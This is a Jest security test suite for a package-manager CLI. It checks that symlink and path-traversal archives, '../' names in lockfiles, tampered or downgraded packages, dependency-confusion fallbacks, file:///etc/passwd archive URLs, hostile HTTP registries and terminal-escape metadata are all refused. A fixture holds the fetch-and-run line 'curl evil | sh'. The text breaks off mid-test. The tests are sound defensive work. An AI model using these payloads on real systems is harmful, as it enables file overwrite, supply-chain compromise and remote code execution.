// The attacks of the trust review (issue 11), each through the CLI as a user or an attacker
// would run it: every one must end in a coded error with nothing written, deleted or leaked.
import {
  chmodSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { buildTgz } from '../../../tools/testing/tar-builder.mjs';
import { startStaticServer } from '../../../tools/testing/static-server.mjs';
import { writeV1Registry } from '../../../tools/testing/v1-registry.mjs';
import { compactedCatalog, copyOfSampleRegistry, freshHome, runGgen } from './helpers/run-ggen.js';

const manifest = (name: string, version = '1.0.0'): { path: string; content: string } => ({
  path: 'gpack.yaml',
  content: `name: ${name}\nversion: ${version}\ndescription: d\n`,
});

/** Everything below `dir`, links not followed: what an install left on disk. */
function tree(dir: string, prefix = ''): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = `${prefix}${entry.name}`;
    return entry.isDirectory() && !entry.isSymbolicLink()
      ? [`${path}/`, ...tree(join(dir, entry.name), `${path}/`)]
      : [path];
  });
}

describe('archives cannot write outside the package (finding 1)', () => {
  it.each([
    [
      'a link to a link that climbs although its text stays inside',
      [
        manifest('climber'),
        { path: 'a', type: 'SymbolicLink' as const, linkpath: '.' },
        { path: 'b', type: 'SymbolicLink' as const, linkpath: 'a/a/a/../../..' },
      ],
      /link 'b' points through another link \('a'\)/,
    ],
    [
      'a file placed under a link before the link in the archive',
      [
        manifest('climber'),
        { path: 'b/escaped.txt', content: 'pwned' },
        { path: 'b', type: 'SymbolicLink' as const, linkpath: 'sub' },
        { path: 'sub/', type: 'Directory' as const },
      ],
      /'b\/escaped.txt' would be written through the link 'b'/,
    ],
    [
      'the same path twice (a file, then a link over it)',
      [
        manifest('climber'),
        { path: 'x', content: 'one' },
        { path: 'x', type: 'SymbolicLink' as const, linkpath: 'gpack.yaml' },
      ],
      /'x' appears twice/,
    ],
  ])('refuses %s, and writes nothing', async (_title, entries, message) => {
    const home = freshHome();
    const outside = mkdtempSync(join(tmpdir(), 'ggen-outside-'));
    const registry = writeV1Registry([{ name: 'climber', archive: buildTgz(entries) }]);
    const target = join(outside, 'project', 'gpacks');
    const run = await runGgen(
      ['marketplace', 'install', 'climber', '--backend', 'v1', '--registry', registry, '--target', target],
      { home },
    );
    expect(run.stderr).toMatch(/^error GGEN_E_ARCHIVE_UNSAFE: /m);
    expect(run.stderr).toMatch(message);
    expect(run.code).toBe(6);
    expect(tree(target)).toEqual([]);
    expect(existsSync(join(outside, 'project', 'ggen.lock'))).toBe(false);
    expect(tree(outside)).toEqual(['project/', 'project/gpacks/']);
  });

  it('still installs a link that stays inside and points at a file', async () => {
    const home = freshHome();
    const archive = buildTgz([
      manifest('linked'),
      { path: 'templates/a.tmpl', content: 'a' },
      { path: 'templates/b.tmpl', type: 'SymbolicLink', linkpath: 'a.tmpl' },
    ]);
    const registry = writeV1Registry([{ name: 'linked', archive }]);
    const target = join(home, 'gpacks');
    const run = await runGgen(
      ['marketplace', 'install', 'linked', '--backend', 'v1', '--registry', registry, '--target', target],
      { home },
    );
    expect(run.stderr).not.toMatch(/error/);
    expect(run.code).toBe(0);
    expect(lstatSync(join(target, 'linked', 'templates', 'b.tmpl')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(target, 'linked', 'templates', 'b.tmpl'), 'utf8')).toBe('a');
  });
});

describe('names from a registry or a lockfile are never paths (findings 3, 4)', () => {
  it('refuses a v2 catalog whose dependency is named ../../../x, writing nothing outside --target', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const catalogPath = join(registry, 'catalog.nq');
    // agent-reasoning-mcp depends on agent-memory-forge in the sample: rename that dependency into a path.
    const catalog = readFileSync(catalogPath, 'utf8');
    expect(catalog.includes('#dependencyName> "agent-memory-forge"')).toBe(true);
    writeFileSync(
      catalogPath,
      catalog.replaceAll('#dependencyName> "agent-memory-forge"', '#dependencyName> "../../../x"'),
    );
    const outside = mkdtempSync(join(tmpdir(), 'ggen-outside-'));
    const target = join(outside, 'a', 'b', 'gpacks');
    const run = await runGgen(
      ['marketplace', 'install', 'agent-reasoning-mcp', '--backend', 'v2', '--registry', registry, '--target', target],
      { home },
    );
    expect(run.stderr).toMatch(
      /^error GGEN_E_INDEX_INVALID: The v2 registry's entry for agent-reasoning-mcp@1\.0\.0 is unusable: '\.\.\/\.\.\/\.\.\/x' is not a package name: it names a path$/m,
    );
    expect(run.code).toBe(7);
    expect(tree(outside)).toEqual(['a/', 'a/b/', 'a/b/gpacks/']);
  });

  it('refuses a lockfile that names ../victim, and deletes nothing', async () => {
    const home = freshHome();
    const project = mkdtempSync(join(tmpdir(), 'ggen-project-'));
    const victim = join(project, 'victim');
    mkdirSync(victim);
    writeFileSync(join(victim, 'precious.txt'), 'keep me');
    const locked = {
      version: '1.0.0',
      resolved: 'x',
      integrity: 'sha512-x',
      dependencies: {},
      backend: 'v1',
      contentHash: 'x',
    };
    writeFileSync(
      join(project, 'ggen.lock'),
      JSON.stringify({ lockfileVersion: 1, requested: { '../victim': '*' }, packages: { '../victim': locked } }),
    );
    for (const args of [
      ['install', 'agent-editor'],
      ['install', '--frozen-lockfile'],
      ['update'],
      ['remove', 'agent-editor'],
      ['list'],
    ]) {
      const run = await runGgen(['marketplace', ...args, '--target', join(project, 'gpacks')], { home });
      expect(run.stderr).toMatch(
        /^error GGEN_E_LOCKFILE_INVALID: Lockfile .*ggen\.lock is unreadable: 'requested\.\.\.\/victim': '\.\.\/victim' is not a package name: it names a path$/m,
      );
      expect(run.code).toBe(7);
    }
    expect(readFileSync(join(victim, 'precious.txt'), 'utf8')).toBe('keep me');
  });
});

function writePack(dir: string, name: string, version: string): string {
  mkdirSync(join(dir, 'templates'), { recursive: true });
  writeFileSync(
    join(dir, 'gpack.yaml'),
    `name: ${name}\nversion: ${version}\ndescription: A signed pack for tests\nauthor: Ada\nlicense: MIT\n`,
  );
  writeFileSync(join(dir, 'templates', 'hello.tmpl'), `hello from ${name} ${version}\n`);
  return dir;
}

/** A v2 registry holding `pinned` signed at each version, and a key the caller may trust. */
async function signedRegistry(
  home: string,
  versions: string[],
): Promise<{ registry: string; trust: Record<string, string>; keyId: string; catalogs: string[] }> {
  const registry = copyOfSampleRegistry();
  const key = join(home, 'k.key');
  const keygen = JSON.parse(
    (await runGgen(['marketplace', 'keygen', '--no-password', '--output', key, '--json'], { home })).stdout,
  ) as { publicKey: string; keyId: string };
  const catalogs: string[] = [];
  for (const version of versions) {
    const published = await runGgen(
      [
        'marketplace',
        'publish',
        writePack(join(home, `p${version}`), 'pinned', version),
        '--sign',
        '--key',
        key,
        '--registry',
        registry,
      ],
      { home },
    );
    expect(published.code).toBe(0);
    catalogs.push(await compactedCatalog(registry));
  }
  return { registry, trust: { GGEN_MARKETPLACE_TRUSTED_KEYS: keygen.publicKey }, keyId: keygen.keyId, catalogs };
}

describe('update verifies as install does (finding 2)', () => {
  it('refuses a tampered newer version under require_signatures, and keeps the signed one and its record', async () => {
    const home = freshHome();
    const { registry, trust, keyId } = await signedRegistry(home, ['1.0.0']);
    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  require_signatures: true\n');
    expect(
      (await runGgen(['marketplace', 'install', 'pinned@^1.0.0', '--registry', registry], { home, env: trust })).code,
    ).toBe(0);
    // 1.1.0 appears, signed; then its archive is swapped for other bytes with a matching catalog entry and no valid signature.
    await runGgen(
      [
        'marketplace',
        'publish',
        writePack(join(home, 'p1.1.0'), 'pinned', '1.1.0'),
        '--sign',
        '--key',
        join(home, 'k.key'),
        '--registry',
        registry,
      ],
      { home },
    );
    writeFileSync(join(registry, 'archives', 'pinned-1.1.0.tgz.minisig'), 'untrusted comment: tampered\n');
    const lockBefore = readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8');
    const update = await runGgen(['marketplace', 'update', '--registry', registry], { home, env: trust });
    expect(update.stderr).toMatch(/^error GGEN_E_SIGNATURE_MALFORMED: /m);
    expect(update.code).toBe(6);
    expect(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).toBe(lockBefore);
    expect(JSON.parse(lockBefore).packages.pinned).toMatchObject({ version: '1.0.0', signature: { keyId } });
    expect(readFileSync(join(home, '.ggen', 'packages', 'pinned', 'templates', 'hello.tmpl'), 'utf8')).toBe(
      'hello from pinned 1.0.0\n',
    );
  });

  it('keeps a package installed signed signed: its unsigned replacement is refused without any flag', async () => {
    const home = freshHome();
    const { registry, trust } = await signedRegistry(home, ['1.0.0', '1.1.0']);
    expect(
      (
        await runGgen(['marketplace', 'install', 'pinned@1.0.0', '--registry', registry, '--verify-signature'], {
          home,
          env: trust,
        })
      ).code,
    ).toBe(0);
    writeFileSync(
      join(home, '.ggen', 'ggen.lock'),
      readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8').replace('"pinned": "1.0.0"', '"pinned": "^1.0.0"'),
    );
    writeFileSync(join(registry, 'archives', 'pinned-1.1.0.tgz.minisig'), 'untrusted comment: gone\n');
    const update = await runGgen(['marketplace', 'update', '--registry', registry], { home });
    expect(update.stderr).toMatch(/^error GGEN_E_SIGNATURE_MALFORMED: /m);
    expect(update.code).toBe(6);
    // From a registry that holds no signatures at all (v1), the same.
    const v1 = writeV1Registry([
      { name: 'pinned', version: '1.2.0', archive: buildTgz([manifest('pinned', '1.2.0')]) },
    ]);
    const fromV1 = await runGgen(['marketplace', 'update', '--registry', v1, '--backend', 'v1'], { home });
    expect(fromV1.stderr).toMatch(
      /^error GGEN_E_SIGNATURE_MISSING: pinned@1\.2\.0 comes from a v1 registry, which holds no signatures \(pinned@1\.0\.0 was installed signed by /m,
    );
    expect(fromV1.code).toBe(6);
    expect(JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).packages.pinned.version).toBe('1.0.0');
  });

  it('refuses to move a locked 1.1.0 back to 1.0.0 when the registry hides 1.1.0, dry run included', async () => {
    const home = freshHome();
    const { registry, trust, catalogs } = await signedRegistry(home, ['1.0.0', '1.1.0']);
    expect(
      (
        await runGgen(['marketplace', 'install', 'pinned@^1.0.0', '--registry', registry, '--verify-signature'], {
          home,
          env: trust,
        })
      ).code,
    ).toBe(0);
    writeFileSync(join(registry, 'catalog.nq'), catalogs[0] ?? '');
    for (const args of [['update'], ['update', '--dry-run'], ['update', 'pinned']]) {
      const run = await runGgen(['marketplace', ...args, '--registry', registry, '--backend', 'v2'], {
        home,
        env: trust,
      });
      expect(run.stderr).toContain('error GGEN_E_DOWNGRADE: pinned would go from 1.1.0 (locked) back to 1.0.0');
      expect(run.code).toBe(5);
    }
    expect(JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).packages.pinned.version).toBe('1.1.0');
    const allowed = await runGgen(
      ['marketplace', 'update', '--allow-downgrade', '--registry', registry, '--backend', 'v2'],
      { home, env: trust },
    );
    expect(allowed.stdout).toContain('pinned 1.1.0 -> 1.0.0');
  });
});

describe('files are written exclusively, and secrets and trust only where nobody else can swap them (findings 6, 15, 22, 24)', () => {
  it('refuses to write a secret key through a link or into a directory others can write', async () => {
    const home = freshHome();
    const victim = join(home, 'root-only.txt');
    writeFileSync(victim, 'precious', { mode: 0o600 });
    const linkDir = join(home, 'keys');
    mkdirSync(linkDir, { mode: 0o700 });
    symlinkSync(victim, join(linkDir, 'signing.key'));
    const throughLink = await runGgen(
      ['marketplace', 'keygen', '--no-password', '--force', '--output', join(linkDir, 'signing.key')],
      { home },
    );
    expect(throughLink.stderr).toMatch(
      /^error GGEN_E_UNSAFE_PERMISSIONS: .*signing\.key is a symbolic link; a secret key is never written through one$/m,
    );
    expect(throughLink.code).toBe(10);
    expect(readFileSync(victim, 'utf8')).toBe('precious');

    const worldWritable = join(home, 'world-writable');
    mkdirSync(worldWritable);
    chmodSync(worldWritable, 0o1777);
    const intoOpenDir = await runGgen(
      ['marketplace', 'keygen', '--no-password', '--output', join(worldWritable, 'signing.key')],
      { home },
    );
    expect(intoOpenDir.stderr).toMatch(
      /^error GGEN_E_UNSAFE_PERMISSIONS: .*world-writable can be written by other users \(mode 777\)/m,
    );
    expect(readdirSync(worldWritable)).toEqual([]);
  });

  it('replaces a planted link at a registry file instead of writing through it, and sweeps temp files of dead writers', async () => {
    const home = freshHome();
    const registry = copyOfSampleRegistry();
    const victim = join(home, 'root-only.txt');
    writeFileSync(victim, 'precious', { mode: 0o600 });
    // What a killed migrate or publish left behind (pid 2^22 + 1 is above Linux's pid_max), and a link someone planted at a guessable temp name.
    writeFileSync(join(registry, 'catalog.nq.tmp-4194305-deadbeef'), 'x'.repeat(1000));
    symlinkSync(victim, join(registry, `catalog.nq.tmp-${process.pid}`));
    const published = await runGgen(
      ['marketplace', 'publish', writePack(join(home, 'pack'), 'fresh-pack', '1.0.0'), '--registry', registry],
      { home },
    );
    expect(published.code).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('precious');
    expect(readdirSync(registry).filter((name) => name.startsWith('catalog.nq.tmp-4194305'))).toEqual([]);
    expect(readFileSync(join(registry, 'catalog.nq'), 'utf8')).toContain('fresh-pack');
  });

  it('takes an empty lock file (a full disk, or a kill between create and write) as stale at once', async () => {
    const home = freshHome();
    const target = join(home, 'gpacks');
    mkdirSync(target, { recursive: true });
    writeFileSync(join(target, '.ggen.lock-pid'), '');
    const started = Date.now();
    const run = await runGgen(['marketplace', 'install', 'agent-editor', '--target', target], { home });
    expect(run.code).toBe(0);
    expect(run.stderr).not.toMatch(/waiting/);
    // Far below the five-minute lock timeout that used to pass first.
    expect(Date.now() - started).toBeLessThan(120_000);
    expect(existsSync(join(target, '.ggen.lock-pid'))).toBe(false);
  });

  it('refuses a trust file that others can write, and warns about a secret key that others can read', async () => {
    const home = freshHome();
    const { registry, trust } = await signedRegistry(home, ['1.0.0']);
    mkdirSync(join(home, '.ggen'), { recursive: true });
    const trustFile = join(home, '.ggen', 'trusted-keys');
    writeFileSync(trustFile, `${trust.GGEN_MARKETPLACE_TRUSTED_KEYS ?? ''}\n`);
    chmodSync(trustFile, 0o666);
    const refused = await runGgen(['marketplace', 'install', 'pinned', '--registry', registry, '--verify-signature'], {
      home,
    });
    expect(refused.stderr).toMatch(
      /^error GGEN_E_UNSAFE_PERMISSIONS: Trust file .*trusted-keys can be changed by other users \(mode 666, owner uid \d+\); its keys are not used$/m,
    );
    expect(refused.code).toBe(10);
    chmodSync(trustFile, 0o600);
    expect(
      (await runGgen(['marketplace', 'install', 'pinned', '--registry', registry, '--verify-signature'], { home }))
        .code,
    ).toBe(0);

    chmodSync(join(home, 'k.key'), 0o644);
    const warned = await runGgen(
      [
        'marketplace',
        'publish',
        writePack(join(home, 'p2'), 'pinned', '2.0.0'),
        '--sign',
        '--key',
        join(home, 'k.key'),
        '--registry',
        registry,
      ],
      {
        home,
      },
    );
    expect(warned.stderr).toMatch(
      /^warning: secret key .*k\.key is readable by other users \(mode 644\); chmod 600 it$/m,
    );
    expect(warned.code).toBe(0);
  });
});

describe('fallback to v1 is visible, refusable and never dependency confusion (findings 10, 11)', () => {
  it('takes only the names v2 lacks from v1: never the package v2 has, refused when fallback is off or signatures are required', async () => {
    const home = freshHome();
    const v2 = copyOfSampleRegistry();
    const pack = writePack(join(home, 'app'), 'private-app', '1.0.0');
    writeFileSync(
      join(pack, 'gpack.yaml'),
      `${readFileSync(join(pack, 'gpack.yaml'), 'utf8')}dependencies:\n  internal-utils: ^1.0.0\n`,
    );
    const key = JSON.parse(
      (
        await runGgen(['marketplace', 'keygen', '--no-password', '--output', join(home, 'team.key'), '--json'], {
          home,
        })
      ).stdout,
    ) as { publicKey: string };
    expect(
      (
        await runGgen(['marketplace', 'publish', pack, '--registry', v2, '--sign', '--key', join(home, 'team.key')], {
          home,
        })
      ).code,
    ).toBe(0);
    // The public v1 registry has both names; its private-app is someone else's.
    const v1 = writeV1Registry([
      {
        name: 'private-app',
        archive: buildTgz([manifest('private-app'), { path: 'evil.sh', content: 'curl evil | sh' }]),
        dependencies: { 'internal-utils': '*' },
      },
      { name: 'internal-utils', archive: buildTgz([manifest('internal-utils')]) },
    ]);
    const env = { GGEN_MARKETPLACE_REGISTRY: v1, GGEN_MARKETPLACE_V2_REGISTRY: v2 };
    const run = await runGgen(['marketplace', 'install', 'private-app', '--target', join(home, 'a')], { home, env });
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^\+\s+internal-utils\s+1\.0\.0\s+v1$/m);
    expect(run.stdout).toMatch(/^\+\s+private-app\s+1\.0\.0\s+v2$/m);
    expect(existsSync(join(home, 'a', 'private-app', 'evil.sh'))).toBe(false);
    const lock = JSON.parse(readFileSync(join(home, 'ggen.lock'), 'utf8')) as {
      packages: Record<string, { backend: string }>;
    };
    expect(Object.fromEntries(Object.entries(lock.packages).map(([name, entry]) => [name, entry.backend]))).toEqual({
      'internal-utils': 'v1',
      'private-app': 'v2',
    });

    // Refusable: with fallback off for installs, the dependency v2 lacks is not found, and nothing comes from v1.
    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
    writeFileSync(
      join(home, '.config', 'ggen', 'config.yaml'),
      'marketplace:\n  operations:\n    install: { fallback_on_error: false }\n',
    );
    const refused = await runGgen(['marketplace', 'install', 'private-app', '--target', join(home, 'b', 'gpacks')], {
      home,
      env,
    });
    expect(refused.stderr).toMatch(
      /^error GGEN_E_PACKAGE_NOT_FOUND: Package 'internal-utils', a dependency of private-app@1\.0\.0, is not in the registry$/m,
    );
    expect(refused.code).toBe(4);
    expect(existsSync(join(home, 'b', 'gpacks', 'internal-utils'))).toBe(false);

    // Under require_signatures the v1 dependency is reported as unsigned.
    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  require_signatures: true\n');
    const unsigned = await runGgen(['marketplace', 'install', 'private-app', '--target', join(home, 'c', 'gpacks')], {
      home,
      env: { ...env, GGEN_MARKETPLACE_TRUSTED_KEYS: key.publicKey },
    });
    expect(unsigned.stderr).toMatch(
      /^error GGEN_E_SIGNATURE_MISSING: internal-utils@1\.0\.0 comes from the v1 registry, which holds no signatures \(it is a dependency that the v2 registry does not have\)$/m,
    );
    expect(unsigned.code).toBe(6);
  });

  it('says when an install falls back, and honours fallback_on_error per operation', async () => {
    const home = freshHome();
    const v2 = copyOfSampleRegistry();
    writeFileSync(join(v2, 'catalog.nq'), 'this is not n-quads\n');
    const env = { GGEN_MARKETPLACE_REGISTRY: copyOfSampleRegistry(), GGEN_MARKETPLACE_V2_REGISTRY: v2 };
    const served = await runGgen(['marketplace', 'install', 'agent-editor', '--target', join(home, 'a')], {
      home,
      env,
    });
    expect(served.code).toBe(0);
    expect(served.stderr).toMatch(
      /^note: v2 failed \(GGEN_E_INDEX_INVALID: .*\); install served by v1 \(fallback_on_error\)$/m,
    );

    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
    writeFileSync(
      join(home, '.config', 'ggen', 'config.yaml'),
      'marketplace:\n  operations:\n    install: { fallback_on_error: false }\n',
    );
    const refused = await runGgen(['marketplace', 'install', 'agent-editor', '--target', join(home, 'b', 'gpacks')], {
      home,
      env,
    });
    expect(refused.stderr).toMatch(/^error GGEN_E_INDEX_INVALID: /m);
    expect(refused.code).toBe(7);
    expect(existsSync(join(home, 'b', 'gpacks', 'agent-editor'))).toBe(false);
    // Search is not install: it still falls back.
    expect((await runGgen(['marketplace', 'search', 'agent'], { home, env })).code).toBe(0);
  });

  it('cancels a v2 attempt that ran out of time: it never commits after v1 answered', async () => {
    const home = freshHome();
    const server = await startStaticServer(copyOfSampleRegistry(), { delayMs: 1500 });
    try {
      const env = {
        GGEN_MARKETPLACE_REGISTRY: copyOfSampleRegistry(),
        GGEN_MARKETPLACE_V2_REGISTRY: server.url,
        GGEN_MARKETPLACE_V2_TIMEOUT_MS: '300',
      };
      const run = await runGgen(['marketplace', 'install', 'agent-editor'], { home, env });
      expect(run.code).toBe(0);
      expect(run.stderr).toMatch(/^note: v2 failed \(GGEN_E_BACKEND_TIMEOUT: /m);
      // The process has ended: whatever v2 was still doing is over, and it wrote nothing.
      const lock = JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')) as {
        packages: Record<string, { backend: string }>;
      };
      expect(Object.values(lock.packages).map((entry) => entry.backend)).toEqual(['v1']);
      expect(existsSync(join(home, '.ggen', 'packages', '.ggen-txn'))).toBe(false);
    } finally {
      await server.close();
    }
  });
});

describe('ownership cannot be switched off or replaced (finding 8)', () => {
  it('refuses an owned package whose key statements vanished, and a chain that starts from another key', async () => {
    const home = freshHome();
    const keys: Record<string, { publicKey: string; keyId: string }> = {};
    for (const name of ['alice', 'mallory'])
      keys[name] = JSON.parse(
        (
          await runGgen(['marketplace', 'keygen', '--no-password', '--output', join(home, `${name}.key`), '--json'], {
            home,
          })
        ).stdout,
      ) as {
        publicKey: string;
        keyId: string;
      };
    const registryOf = async (owner: string): Promise<string> => {
      const registry = copyOfSampleRegistry();
      expect(
        (
          await runGgen(
            [
              'marketplace',
              'publish',
              writePack(join(home, `${owner}-pack`), 'owned', '1.0.0'),
              '--sign',
              '--key',
              join(home, `${owner}.key`),
              '--registry',
              registry,
            ],
            { home },
          )
        ).code,
      ).toBe(0);
      return registry;
    };
    const alices = await registryOf('alice');
    const mallorys = await registryOf('mallory');
    // This user trusts both publishers (Mallory publishes other packs they use).
    const env = { GGEN_MARKETPLACE_TRUSTED_KEYS: `${keys.alice?.publicKey ?? ''},${keys.mallory?.publicKey ?? ''}` };
    const installed = await runGgen(['marketplace', 'install', 'owned', '--registry', alices, '--verify-signature'], {
      home,
      env,
    });
    expect(installed.code).toBe(0);
    // The lockfile keeps whole public keys: the signer's and the owners' (ids are labels anyone can copy).
    expect(JSON.parse(readFileSync(join(home, '.ggen', 'ggen.lock'), 'utf8')).packages.owned.signature).toEqual({
      keyId: keys.alice?.keyId,
      publicKey: keys.alice?.publicKey,
      owners: [keys.alice?.publicKey],
    });

    // The registry now serves Mallory's chain for the same name: refused, although her signature is valid and trusted.
    const replaced = await runGgen(
      ['marketplace', 'install', 'owned', '--registry', mallorys, '--verify-signature', '--force'],
      { home, env },
    );
    expect(replaced.stderr).toContain(
      `error GGEN_E_OWNER_CHAIN_INVALID: The owner keys of owned cannot be trusted: it was installed owned by ${keys.alice?.keyId ?? ''}, and its key statements now start from other keys (a replaced chain)`,
    );
    expect(replaced.code).toBe(6);

    // Deleting the statements does not turn the owner check off: the catalog still names the owner.
    rmSync(join(alices, 'keys', 'owned.json'));
    const fresh = freshHome();
    const vanished = await runGgen(['marketplace', 'install', 'owned', '--registry', alices, '--verify-signature'], {
      home: fresh,
      env,
    });
    expect(vanished.stderr).toContain(
      'error GGEN_E_OWNER_CHAIN_INVALID: The owner keys of owned cannot be trusted: the catalog names 1 owner key(s), but the registry has no key statements for it',
    );
    expect(vanished.code).toBe(6);
    expect(existsSync(join(fresh, '.ggen', 'packages', 'owned'))).toBe(false);
  });
});

/** An http registry on 127.0.0.1 serving `dir`, where `/archives/endless.tgz` never ends (bounded at 96 MiB) and `/index.json` may lie about its size. */
async function hostileHttpRegistry(
  dir: string,
  options: { declaredIndexBytes?: number } = {},
): Promise<{ url: string; sent: () => number; close: () => Promise<void> }> {
  let sent = 0;
  const server = createHttpServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://127.0.0.1').pathname;
    if (path === '/archives/endless.tgz') {
      response.writeHead(200, { 'content-type': 'application/octet-stream' });
      const chunk = Buffer.alloc(1024 * 1024, 1);
      const pump = (): void => {
        while (sent < 96 * 1024 * 1024) {
          sent += chunk.length;
          if (!response.write(chunk)) {
            response.once('drain', pump);
            return;
          }
        }
        response.end();
      };
      response.on('close', () => {
        response.removeAllListeners('drain');
      });
      pump();
      return;
    }
    const file = join(dir, path);
    if (!existsSync(file)) {
      response.writeHead(404).end();
      return;
    }
    const body = readFileSync(file);
    response.writeHead(
      200,
      path === '/index.json' && options.declaredIndexBytes !== undefined
        ? { 'content-length': String(options.declaredIndexBytes) }
        : {},
    );
    response.end(path === '/index.json' && options.declaredIndexBytes !== undefined ? body.subarray(0, 10) : body);
  });
  await new Promise<void>((resolvePromise) => {
    server.listen(0, '127.0.0.1', resolvePromise);
  });
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    sent: () => sent,
    close: () =>
      new Promise((resolvePromise) => {
        server.closeAllConnections();
        server.close(() => {
          resolvePromise();
        });
      }),
  };
}

describe('what an http registry sends is bounded and stays at its origin (findings 14, 17, 18)', () => {
  it('cuts off an endless archive at the archive limit, and a declared huge index before reading it', async () => {
    const home = freshHome();
    const dir = writeV1Registry([
      { name: 'endless', archive: buildTgz([manifest('endless')]), downloadUrl: 'archives/endless.tgz' },
    ]);
    const registry = await hostileHttpRegistry(dir);
    try {
      const run = await runGgen(['marketplace', 'install', 'endless', '--backend', 'v1', '--registry', registry.url], {
        home,
      });
      expect(run.stderr).toMatch(
        /^error GGEN_E_RESPONSE_TOO_LARGE: http:\/\/127\.0\.0\.1:\d+\/archives\/endless\.tgz is larger than 67108864 bytes, the limit for this kind of file$/m,
      );
      expect(run.code).toBe(8);
      expect(existsSync(join(home, '.ggen', 'packages', 'endless'))).toBe(false);
    } finally {
      await registry.close();
    }
    const lying = await hostileHttpRegistry(dir, { declaredIndexBytes: 5 * 1024 * 1024 * 1024 });
    try {
      const run = await runGgen(['marketplace', 'search', 'endless', '--backend', 'v1', '--registry', lying.url], {
        home,
      });
      expect(run.stderr).toMatch(
        /^error GGEN_E_RESPONSE_TOO_LARGE: http:\/\/127\.0\.0\.1:\d+\/index\.json is larger than 268435456 bytes/m,
      );
      expect(run.code).toBe(8);
    } finally {
      await lying.close();
    }
  });

  it.each([
    ['a file:// URL', 'file:///etc/passwd'],
    ['an absolute local path', '/etc/passwd'],
    ['another host', 'http://127.0.0.2:9/x.tgz'],
  ])('refuses an archive listed at %s by an http registry, fetching nothing', async (_title, downloadUrl) => {
    const home = freshHome();
    const dir = writeV1Registry([{ name: 'elsewhere', archive: buildTgz([manifest('elsewhere')]), downloadUrl }]);
    const registry = await hostileHttpRegistry(dir);
    try {
      const run = await runGgen(
        ['marketplace', 'install', 'elsewhere', '--backend', 'v1', '--registry', registry.url],
        { home },
      );
      expect(run.stderr).toContain(
        `error GGEN_E_INDEX_INVALID: The registry lists the archive of elsewhere@1.0.0 at ${downloadUrl}, outside its own origin ${registry.url.replace(/\/$/, '')}`,
      );
      expect(run.code).toBe(7);
    } finally {
      await registry.close();
    }
  });

  it('shows control characters from registry metadata as ?, in tables and in errors', async () => {
    const home = freshHome();
    const dir = writeV1Registry([
      {
        name: 'shiny',
        archive: buildTgz([manifest('shiny')]),
        description: 'Nice \u001b]0;pwned\u0007pack \u001b[2Jcleared\rover \u202eevil',
      },
    ]);
    const run = await runGgen(['marketplace', 'search', 'shiny', '--backend', 'v1', '--registry', dir], { home });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('shiny');
    expect(['\u001b', '\u0007', '\r', '\u202e'].filter((char) => run.stdout.includes(char))).toEqual([]);
    const info = await runGgen(['marketplace', 'info', 'shiny', '--backend', 'v1', '--registry', dir], { home });
    expect(info.stdout).toContain('Nice ?]0;pwned?pack ?[2Jcleared?over ?evil');
  });
});

describe('registry migrate is confined, verified, locked and merges (finding 7)', () => {
  it('keeps an archive path that climbs out of --to out, and an unverifiable one', async () => {
    const home = freshHome();
    const from = writeV1Registry([
      { name: 'climbs', archive: buildTgz([manifest('climbs')]), downloadUrl: '../../escaped.tgz' },
      { name: 'honest', archive: buildTgz([manifest('honest')]) },
    ]);
    const index = JSON.parse(readFileSync(join(from, 'index.json'), 'utf8')) as {
      packages: {
        name: string;
        versions: { integrity?: string; checksum?: string }[];
        integrity?: string;
        checksum?: string;
      }[];
    };
    const unchecked = {
      name: 'unchecked',
      version: '1.0.0',
      description: 'd',
      download_url: 'archives/honest-1.0.0.tgz',
    };
    writeFileSync(join(from, 'index.json'), JSON.stringify({ ...index, packages: [...index.packages, unchecked] }));
    const to = join(mkdtempSync(join(tmpdir(), 'ggen-to-')), 'a', 'b', 'v2');
    const run = await runGgen(['marketplace', 'registry', 'migrate', '--from', from, '--to', to], { home });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      'warning: climbs@1.0.0 left out: its archive path ../../escaped.tgz leaves the registry',
    );
    expect(run.stdout).toContain(
      'warning: unchecked@1.0.0 left out: the index records no integrity or checksum to check its archive against',
    );
    expect(existsSync(join(to, '..', '..', 'escaped.tgz'))).toBe(false);
    expect(readdirSync(join(to, 'archives'))).toEqual(['honest-1.0.0.tgz']);
  });

  it("adds v1's versions to a v2 package without replacing its signed versions or owners", async () => {
    const home = freshHome();
    const { registry, trust } = await signedRegistry(home, ['1.0.0', '1.1.0']);
    const v2Lock = readFileSync(join(registry, 'keys', 'pinned.json'), 'utf8');
    const from = writeV1Registry([
      { name: 'pinned', version: '0.9.0', archive: buildTgz([manifest('pinned', '0.9.0')]) },
    ]);
    const run = await runGgen(['marketplace', 'registry', 'migrate', '--from', from, '--to', registry], { home });
    expect(run.code).toBe(0);
    const info = JSON.parse(
      (await runGgen(['marketplace', 'info', 'pinned', '--registry', registry, '--backend', 'v2', '--json'], { home }))
        .stdout,
    ) as {
      version: string;
      versions: { version: string }[];
    };
    expect(info.version).toBe('1.1.0');
